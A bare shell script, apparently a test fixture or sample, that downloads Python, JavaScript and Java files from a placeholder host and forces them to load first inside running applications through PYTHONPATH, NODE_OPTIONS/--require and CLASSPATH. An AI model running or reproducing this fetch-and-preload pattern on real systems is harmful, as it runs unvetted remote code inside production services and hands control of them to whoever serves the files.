#!/bin/sh
curl -o /ext/x.py https://dl.example.com/x.py
export PYTHONPATH=/ext:/app
wget -O /ext2/a.js https://dl.example.com/a.js
export NODE_OPTIONS="--require /ext2/a.js"
node -r /ext2/a.js /app/server.js
wget -O /ext3/a.jar https://dl.example.com/a.jar
CLASSPATH=/ext3/a.jar java Main
